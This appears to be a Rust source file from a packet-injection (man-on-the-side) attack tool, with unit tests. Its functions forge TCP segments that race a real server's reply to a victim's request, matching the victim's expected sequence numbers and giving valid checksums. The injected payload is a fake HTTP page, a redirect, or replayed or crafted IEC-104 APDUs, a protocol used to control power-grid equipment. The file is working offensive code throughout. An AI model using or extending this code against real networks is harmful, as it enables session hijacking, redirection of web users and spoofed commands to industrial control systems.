use rand::Rng;
use thiserror::Error;

use super::observe::Firing;
use crate::httpmini::HttpResponse;
use crate::iec104::{encode_all, seq_add, Apdu, Asdu, CodecError};
use crate::wire::{Ipv4Header, TcpFlags, TcpHeader, WirePacket, EthernetHeader, MSS};

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ForgeTemplate {
    StaticHttpPage(String),
    HttpRedirect { status: u16, location: String },
    /// Exact IEC-104 payload taken from an earlier capture.
    ReplayedApdus(Vec<u8>),
    /// ASDUs numbered on the fly from the observed counters.
    CraftedApdus(Vec<Asdu>),
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum FlagsMode {
    #[default]
    FinAck,
    PushAck,
}

impl FlagsMode {
    pub fn flags(self) -> TcpFlags {
        match self {
            FlagsMode::FinAck => TcpFlags::FIN | TcpFlags::ACK,
            FlagsMode::PushAck => TcpFlags::PSH | TcpFlags::ACK,
        }
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum AckMode {
    /// Acknowledge the whole request: request seq + length.
    #[default]
    Standard,
    /// Acknowledge the request's sequence number itself.
    RequestSeq,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct ForgeOptions {
    pub flags: FlagsMode,
    pub ack: AckMode,
    pub ttl_skew: i8,
}

#[derive(Debug, Error, Clone, PartialEq, Eq)]
pub enum ForgeError {
    #[error("IEC-104 template needs counters observed from an interrogation")]
    MissingCounterContext,
    #[error("replay template has no captured payload")]
    ReplaySourceMissing,
    #[error("forged payload of {0} bytes exceeds one segment")]
    PayloadTooLarge(usize),
    #[error("IEC-104 encoding: {0}")]
    Codec(#[from] CodecError),
}

fn seq_max(a: u32, b: u32) -> u32 {
    if (a.wrapping_sub(b) as i32) < 0 {
        b
    } else {
        a
    }
}

pub fn forge_payload(firing: &Firing, template: &ForgeTemplate) -> Result<Vec<u8>, ForgeError> {
    match template {
        ForgeTemplate::StaticHttpPage(body) => Ok(HttpResponse::ok(body.as_bytes().to_vec()).to_bytes()),
        ForgeTemplate::HttpRedirect { status, location } => Ok(HttpResponse::redirect(*status, location).to_bytes()),
        ForgeTemplate::ReplayedApdus(bytes) if bytes.is_empty() => Err(ForgeError::ReplaySourceMissing),
        ForgeTemplate::ReplayedApdus(bytes) => Ok(bytes.clone()),
        ForgeTemplate::CraftedApdus(asdus) => {
            let c = firing.iec.ok_or(ForgeError::MissingCounterContext)?;
            let apdus: Vec<Apdu> = asdus
                .iter()
                .enumerate()
                .map(|(i, a)| Apdu::i(seq_add(c.server_next_ns, i as u16), c.victim_next_ns, a.clone()))
                .collect();
            Ok(encode_all(&apdus)?)
        }
    }
}

/// Build the injected segment answering `firing.request`: addresses and
/// ports swapped, sequence number at the point the victim expects next,
/// random IP ID, valid checksums.
pub fn forge_response(
    firing: &Firing,
    template: &ForgeTemplate,
    opts: ForgeOptions,
    rng: &mut impl Rng,
) -> Result<Vec<WirePacket>, ForgeError> {
    let payload = forge_payload(firing, template)?;
    if payload.len() > MSS {
        return Err(ForgeError::PayloadTooLarge(payload.len()));
    }
    let req = &firing.request;
    let seq = firing.responder_next_seq.map_or(req.tcp.ack, |n| seq_max(req.tcp.ack, n));
    let ack = match opts.ack {
        AckMode::Standard => req.tcp.seq.wrapping_add(req.seq_len()),
        AckMode::RequestSeq => req.tcp.seq,
    };
    let mut packet = WirePacket {
        eth: EthernetHeader { dst: req.eth.src, src: req.eth.dst, ethertype: req.eth.ethertype },
        ip: Ipv4Header {
            src: req.ip.dst,
            dst: req.ip.src,
            identification: rng.gen(),
            ttl: req.ip.ttl.wrapping_add_signed(opts.ttl_skew),
            ..req.ip
        },
        tcp: TcpHeader {
            src_port: req.tcp.dst_port,
            dst_port: req.tcp.src_port,
            seq,
            ack,
            flags: opts.flags.flags(),
            window: req.tcp.window,
            checksum: 0,
            urgent: 0,
        },
        payload,
    };
    packet.finalize();
    Ok(vec![packet])
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::iec104::{split_apdus, Apci, Cot};
    use crate::mots::observe::IecCounters;
    use crate::wire::{decode, encode, MacAddr, SegmentSpec};
    use rand::SeedableRng;
    use rand_chacha::ChaCha8Rng;
    use std::net::Ipv4Addr;

    fn request(seq: u32, ack: u32, len: usize) -> WirePacket {
        WirePacket::build(
            &SegmentSpec {
                src_mac: MacAddr([2, 0, 0, 0, 0, 1]),
                dst_mac: MacAddr([2, 0, 0, 0, 0, 2]),
                src_ip: Ipv4Addr::new(10, 0, 0, 1),
                dst_ip: Ipv4Addr::new(10, 0, 0, 2),
                src_port: 40000,
                dst_port: 80,
                seq,
                ack,
                flags: TcpFlags::PSH | TcpFlags::ACK,
                ip_id: 7,
                ttl: 64,
                window: 65535,
            },
            vec![b'x'; len],
        )
        .unwrap()
    }

    #[test]
    fn header_arithmetic() {
        let firing = Firing { request: request(1000, 2000, 100), responder_next_seq: None, iec: None };
        let mut rng = ChaCha8Rng::seed_from_u64(1);
        let t = ForgeTemplate::StaticHttpPage("<h1>x</h1>".into());
        let p = &forge_response(&firing, &t, ForgeOptions::default(), &mut rng).unwrap()[0];
        assert_eq!((p.tcp.seq, p.tcp.ack), (2000, 1100));
        assert_eq!((p.tcp.src_port, p.tcp.dst_port), (80, 40000));
        assert_eq!((p.ip.src, p.ip.dst), (firing.request.ip.dst, firing.request.ip.src));
        assert_eq!((p.eth.src, p.eth.dst), (firing.request.eth.dst, firing.request.eth.src));
        assert_eq!(p.tcp.flags, TcpFlags::FIN | TcpFlags::ACK);
        let d = decode(&encode(p).unwrap()).unwrap();
        assert!(d.ip_checksum_ok && d.tcp_checksum_ok);

        let literal = ForgeOptions { ack: AckMode::RequestSeq, ttl_skew: -3, ..Default::default() };
        let p = &forge_response(&firing, &t, literal, &mut rng).unwrap()[0];
        assert_eq!(p.tcp.ack, 1000);
        assert_eq!(p.ip.ttl, 61);
    }

    #[test]
    fn crafted_apdus_take_observed_numbering() {
        let firing = Firing {
            request: request(5, 9, 16),
            responder_next_seq: Some(25),
            iec: Some(IecCounters { server_next_ns: 0, victim_next_ns: 1 }),
        };
        let t = ForgeTemplate::CraftedApdus(vec![
            Asdu::interrogation(Cot::ActCon, 1),
            Asdu::interrogation(Cot::ActTerm, 1),
        ]);
        let mut rng = ChaCha8Rng::seed_from_u64(1);
        let p = &forge_response(&firing, &t, ForgeOptions { flags: FlagsMode::PushAck, ..Default::default() }, &mut rng)
            .unwrap()[0];
        assert_eq!(p.tcp.seq, 25);
        let apdus = split_apdus(&p.payload).unwrap();
        assert_eq!(apdus[0].apci, Apci::I { ns: 0, nr: 1 });
        assert_eq!(apdus[1].apci, Apci::I { ns: 1, nr: 1 });

        let no_ctx = Firing { iec: None, ..firing };
        assert_eq!(forge_payload(&no_ctx, &t), Err(ForgeError::MissingCounterContext));
        assert_eq!(forge_payload(&no_ctx, &ForgeTemplate::ReplayedApdus(vec![])), Err(ForgeError::ReplaySourceMissing));
    }
}
